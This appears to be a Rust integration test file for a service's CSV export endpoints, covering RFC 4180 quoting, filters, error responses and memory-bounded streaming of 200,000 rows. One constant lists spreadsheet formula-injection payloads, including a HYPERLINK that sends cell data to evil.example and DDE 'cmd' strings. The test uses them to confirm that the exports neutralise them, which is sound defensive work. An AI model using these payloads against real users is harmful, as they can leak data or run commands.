//! CSV exports: RFC 4180 read back with the `csv` crate, the list filters plus `from`/`to`,
//! refusals as the lists refuse, and a 200,000-row file streamed page by page.

use axum::{
    body::Body,
    http::{Method, Request},
};
use futures::FutureExt;
use http_body_util::BodyExt;
use serde_json::json;
use tower::ServiceExt;

use crate::support::helpers::{TestApp, id};

/// The field names of the first item of a list answer, in order: the columns its CSV must have.
fn json_fields(list: &serde_json::Value) -> Vec<String> {
    list["items"][0]
        .as_object()
        .unwrap()
        .keys()
        .cloned()
        .collect()
}

/// The records of a CSV body (header first).
fn records(bytes: &[u8]) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(bytes)
        .records()
        .map(|r| r.unwrap().iter().map(str::to_string).collect())
        .collect()
}

#[tokio::test]
async fn payments_export_with_the_list_filters_and_a_window() {
    let app = TestApp::spawn().await;
    let s = app.create_subscriber(9101).await;
    let c = app.create_channel(-100_910_001, json!({})).await;
    let o1 = app.create_order(id(&s), id(&c)).await;
    app.pay_order(&o1, "pay_csv_1").await.expect(200);
    // A payment of nothing we know: kept for review.
    let mut unknown = json!({"reference": "ord_nobody", "amount_minor": 100, "currency": "UAH"});
    unknown["reference"] = json!("ord_nobody, \"quoted\"");
    app.pay_order(&unknown, "pay_csv_2").await.expect(200);

    let r = app.get("/api/payments.csv").await;
    assert_eq!(r.status.as_u16(), 200);
    assert_eq!(
        r.header("content-type"),
        Some("text/csv; charset=utf-8; header=present")
    );
    assert_eq!(
        r.header("content-disposition"),
        Some("attachment; filename=\"payments.csv\"")
    );
    assert!(r.bytes.ends_with(b"\r\n"));
    let rows = records(&r.bytes);
    assert_eq!(
        rows[0],
        [
            "id",
            "gateway",
            "external_id",
            "order_reference",
            "order_id",
            "subscriber_id",
            "channel_id",
            "amount_minor",
            "currency",
            "affiliate_fee_minor",
            "paid_at",
            "outcome",
            "reason",
            "created_at"
        ]
    );
    assert_eq!(rows.len(), 3);
    assert_eq!(rows[1][2], "pay_csv_1");
    assert_eq!(rows[1][9], "0", "no affiliate fee on a card payment");
    assert_eq!(rows[1][11], "applied");
    assert_eq!(rows[1][12], "", "a null is an empty field");
    assert_eq!(
        rows[2][3], "ord_nobody, \"quoted\"",
        "quoted as RFC 4180 says"
    );
    assert_eq!(rows[2][11], "needs_review");
    // The list's own view of the same payments, field for field: every field of the payment
    // (the staff view adds the payment's fiscal receipt, an object a CSV cell cannot hold,
    // last).
    let list = app.get("/api/payments").await.expect(200);
    let mut fields = json_fields(&list);
    assert_eq!(fields.pop().as_deref(), Some("receipt"));
    assert_eq!(rows[0], fields, "every field the API shows, in its order");
    assert_eq!(rows[1][0], list["items"][0]["id"].to_string());
    assert_eq!(rows[1][10], list["items"][0]["paid_at"].as_str().unwrap());

    let applied = records(&app.get("/api/payments.csv?outcome=applied").await.bytes);
    assert_eq!(applied.len(), 2);
    let mine = format!("/api/payments.csv?subscriber_id={}", id(&s));
    assert_eq!(records(&app.get(&mine).await.bytes).len(), 2);
    // A window in the future selects nothing: the header alone.
    let later = records(
        &app.get("/api/payments.csv?from=2999-01-01T00:00:00Z")
            .await
            .bytes,
    );
    assert_eq!(later.len(), 1);
    let before = records(
        &app.get("/api/payments.csv?to=2000-01-01T00:00:00Z")
            .await
            .bytes,
    );
    assert_eq!(before.len(), 1);
    let all = records(
        &app.get("/api/payments.csv?from=2000-01-01T00:00:00Z&to=2999-01-01T00:00:00Z")
            .await
            .bytes,
    );
    assert_eq!(all.len(), 3);
}

#[tokio::test]
async fn memberships_and_subscribers_export_their_rows() {
    let app = TestApp::spawn().await;
    let s = app.create_subscriber(9102).await;
    app.patch(
        &format!("/api/subscribers/{}", id(&s)),
        json!({"display_name": "Ann, \"the\" buyer"}),
    )
    .await
    .expect(200);
    let c = app.create_channel(-100_910_002, json!({})).await;
    app.post(
        "/api/memberships",
        json!({"subscriber_id": id(&s), "channel_id": id(&c), "days": 10}),
    )
    .await
    .expect(201);
    let m = records(&app.get("/api/memberships.csv?status=active").await.bytes);
    assert_eq!(
        m[0],
        [
            "id",
            "subscriber_id",
            "channel_id",
            "status",
            "expires_at",
            "created_at",
            "updated_at"
        ]
    );
    assert_eq!(m.len(), 2);
    assert_eq!(m[1][3], "active");
    assert_eq!(
        records(&app.get("/api/memberships.csv?status=expired").await.bytes).len(),
        1
    );
    let subs = records(
        &app.get("/api/subscribers.csv?username=@user9102")
            .await
            .bytes,
    );
    assert_eq!(subs.len(), 2);
    let list = app
        .get("/api/subscribers?username=user9102")
        .await
        .expect(200);
    assert_eq!(subs[0], json_fields(&list));
    let memberships = app.get("/api/memberships").await.expect(200);
    assert_eq!(m[0], json_fields(&memberships));
    assert_eq!(subs[1][1], "9102");
    assert_eq!(subs[1][3], "Ann, \"the\" buyer");
}

/// Text that a spreadsheet would run as a formula, one per character a formula starts with.
const FORMULAS: [&str; 6] = [
    "=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Click\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
];

/// A buyer's display name, and a payment's reference, starting with each formula character
/// reach the file with a leading `'` (a spreadsheet shows them as text); the amount beside
/// them stays a number.
#[tokio::test]
async fn exports_write_formula_text_as_text() {
    let app = TestApp::spawn().await;
    let db = app.db().await;
    for (i, text) in FORMULAS.iter().enumerate() {
        let s = app.create_subscriber(9300 + i as i64).await;
        // As the bot stores a Telegram name: whatever the buyer typed.
        db.execute(
            "UPDATE subscribers SET display_name = $1 WHERE id = $2",
            &[text, &(id(&s) as i32)],
        )
        .await
        .unwrap();
        let payment = json!({"reference": text, "amount_minor": 100 + i as i64, "currency": "UAH"});
        app.pay_order(&payment, &format!("pay_formula_{i}"))
            .await
            .expect(200);
    }
    let subs = records(&app.get("/api/subscribers.csv").await.bytes);
    let payments = records(&app.get("/api/payments.csv").await.bytes);
    assert_eq!((subs.len(), payments.len()), (7, 7));
    for (i, text) in FORMULAS.iter().enumerate() {
        assert_eq!(subs[i + 1][3], format!("'{text}"), "display name {text:?}");
        assert_eq!(payments[i + 1][3], format!("'{text}"), "reference {text:?}");
        assert_eq!(
            payments[i + 1][7],
            (100 + i).to_string(),
            "an amount is a number"
        );
    }
}

#[tokio::test]
async fn an_export_refuses_what_its_list_refuses() {
    let app = TestApp::spawn().await;
    for (path, status) in [
        ("/api/payments.csv?outcome=bogus", 422),
        ("/api/payments.csv?subscriber_id=abc", 400),
        ("/api/payments.csv?limit=5", 400),
        ("/api/payments.csv?nonsense=1", 400),
        ("/api/payments.csv?from=yesterday", 400),
        (
            "/api/payments.csv?from=2025-02-01T00:00:00Z&to=2025-01-01T00:00:00Z",
            422,
        ),
        ("/api/memberships.csv?status=bogus", 422),
        ("/api/subscribers.csv?username=", 422),
        ("/api/subscribers.csv?telegram_user_id=x", 400),
    ] {
        let r = app.get(path).await;
        assert_eq!(r.status.as_u16(), status, "{path}");
        assert_eq!(
            r.header("content-type"),
            Some("application/problem+json"),
            "{path}"
        );
        // The list with the same filter says the same.
        let list_path = path.replace(".csv", "");
        if !path.contains("limit=") && !path.contains("from=") {
            assert_eq!(
                app.get(&list_path).await.status.as_u16(),
                status,
                "{list_path}"
            );
        }
    }
    let anonymous = app
        .request(Method::GET, "/api/payments.csv", &[], Body::empty())
        .await;
    assert_eq!(anonymous.status.as_u16(), 401);
}

/// 200,000 subscribers exported: every row arrives once, in order, and the body comes in
/// pieces of at most one page (the server never holds more than that), read on demand: a row
/// added after the first piece was read is in the file, so the rest was not read ahead.
#[tokio::test]
async fn two_hundred_thousand_rows_stream_in_pages_of_bounded_size() {
    const ROWS: i64 = 200_000;
    let app = TestApp::spawn().await;
    app.db()
        .await
        .execute(
            "INSERT INTO subscribers (telegram_user_id, username, display_name)
             SELECT g, 'user' || g, 'Buyer \"' || g || '\", of Kyiv' FROM generate_series(1, $1::bigint) g",
            &[&ROWS],
        )
        .await
        .unwrap();
    let token = app.token().await;
    let req = Request::get("/api/subscribers.csv")
        .header("authorization", format!("Bearer {token}"))
        .body(Body::empty())
        .unwrap();
    let response = app.router.clone().oneshot(req).await.unwrap();
    assert_eq!(response.status().as_u16(), 200);
    let mut body = response.into_body();

    let (mut frames, mut largest, mut total) = (0usize, 0usize, 0usize);
    let (mut lines, mut last_id, mut pending) = (0i64, 0i64, Vec::<u8>::new());
    while let Some(frame) = body.frame().await {
        let data = frame.unwrap().into_data().unwrap();
        frames += 1;
        largest = largest.max(data.len());
        total += data.len();
        if frames == 1 {
            app.db()
                .await
                .execute(
                    "INSERT INTO subscribers (telegram_user_id, username) VALUES ($1, 'late')",
                    &[&(ROWS + 1)],
                )
                .await
                .unwrap();
        }
        // Count complete records as they come, keeping only an unfinished line (no quoted field
        // here holds a line break).
        pending.extend_from_slice(&data);
        let cut = pending
            .iter()
            .rposition(|b| *b == b'\n')
            .map_or(0, |i| i + 1);
        for line in pending[..cut]
            .split(|b| *b == b'\n')
            .filter(|l| !l.is_empty())
        {
            lines += 1;
            if lines > 1 {
                let id: i64 = std::str::from_utf8(line.split(|b| *b == b',').next().unwrap())
                    .unwrap()
                    .parse()
                    .unwrap();
                assert!(id > last_id, "rows in id order, once each");
                last_id = id;
            }
        }
        pending.drain(..cut);
    }
    assert!(pending.is_empty());
    assert_eq!(lines, 1 + ROWS + 1, "header, every row, and the late one");
    // One page per piece: 1,000 rows of at most ~100 bytes each.
    let pages = (ROWS as usize).div_ceil(1000);
    assert!(frames >= pages, "{frames} pieces for {pages} pages");
    assert!(largest <= 1000 * 128, "largest piece {largest} bytes");
    assert!(total > 15_000_000, "{total} bytes in all");
}

/// The peak resident memory of process `pid` (`VmHWM`), in KiB.
fn peak_rss_kib(pid: u32) -> u64 {
    std::fs::read_to_string(format!("/proc/{pid}/status"))
        .unwrap()
        .lines()
        .find_map(|l| l.strip_prefix("VmHWM:"))
        .and_then(|v| v.trim().trim_end_matches("kB").trim().parse().ok())
        .expect("VmHWM in /proc/<pid>/status")
}

/// The same 200,000-row export from a real `subgate serve` process: its peak resident memory
/// grows by far less than the file's size (the rows held as records would take several times
/// that), so the file never sits in the server's memory.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_server_exporting_200_000_rows_keeps_its_memory_flat() {
    const ROWS: i64 = 200_000;
    let db_name = crate::support::helpers::fresh_database().await;
    let url = crate::support::helpers::url_for(&db_name);
    {
        let (client, conn) = tokio_postgres::connect(&url, tokio_postgres::NoTls)
            .await
            .unwrap();
        tokio::spawn(conn);
        client
            .execute(
                "INSERT INTO subscribers (telegram_user_id, username, display_name)
                 SELECT g, 'user' || g, 'Buyer number ' || g || ' of the test export'
                 FROM generate_series(1, $1::bigint) g",
                &[&ROWS],
            )
            .await
            .unwrap();
    }
    let bind = format!("127.0.0.1:{}", crate::ops::cli::free_port());
    let mut child = crate::ops::cli::subgate(
        &["serve"],
        &[
            ("DATABASE_URL", url.as_str()),
            ("JWT_SECRET", crate::support::helpers::JWT_SECRET),
            ("BCRYPT_COST", "4"),
            ("BIND_ADDR", bind.as_str()),
            ("ADMIN_EMAIL", "boss@example.com"),
            ("ADMIN_PASSWORD", "boss password 1"),
            ("LOG_FORMAT", "json"),
        ],
    )
    .stdout(std::process::Stdio::null())
    .stderr(std::process::Stdio::null())
    .spawn()
    .unwrap();
    let walked = std::panic::AssertUnwindSafe(async {
        let http = reqwest::Client::new();
        let base = format!("http://{bind}");
        let deadline = std::time::Instant::now() + std::time::Duration::from_secs(60);
        let token = loop {
            if let Ok(r) = http
                .post(format!("{base}/api/auth/login"))
                .json(&json!({"email": "boss@example.com", "password": "boss password 1"}))
                .send()
                .await
                && r.status() == 200
            {
                let body: serde_json::Value = r.json().await.unwrap();
                break body["access_token"].as_str().unwrap().to_string();
            }
            assert!(std::time::Instant::now() < deadline, "serve never answered");
            tokio::time::sleep(std::time::Duration::from_millis(100)).await;
        };
        let export = || {
            http.get(format!("{base}/api/subscribers.csv"))
                .bearer_auth(&token)
                .send()
        };
        // One small export first, so what any request allocates once is in the baseline.
        let warm = export().await.unwrap();
        assert_eq!(warm.status(), 200);
        let mut warm = warm;
        warm.chunk().await.unwrap().unwrap();
        drop(warm);
        tokio::time::sleep(std::time::Duration::from_millis(200)).await;

        let before = peak_rss_kib(child.id());
        let mut response = export().await.unwrap();
        let (mut total, mut lines) = (0usize, 0usize);
        while let Some(chunk) = response.chunk().await.unwrap() {
            total += chunk.len();
            lines += chunk.iter().filter(|b| **b == b'\n').count();
        }
        let after = peak_rss_kib(child.id());
        assert_eq!(lines, ROWS as usize + 1);
        let grown = after.saturating_sub(before);
        assert!(total > 20_000_000, "{total} bytes");
        assert!(
            grown * 1024 < total as u64 / 2,
            "the server's peak memory grew by {grown} KiB for a file of {total} bytes"
        );
    })
    .catch_unwind()
    .await;
    let _ = child.kill();
    let _ = child.wait();
    if let Err(panic) = walked {
        std::panic::resume_unwind(panic);
    }
}
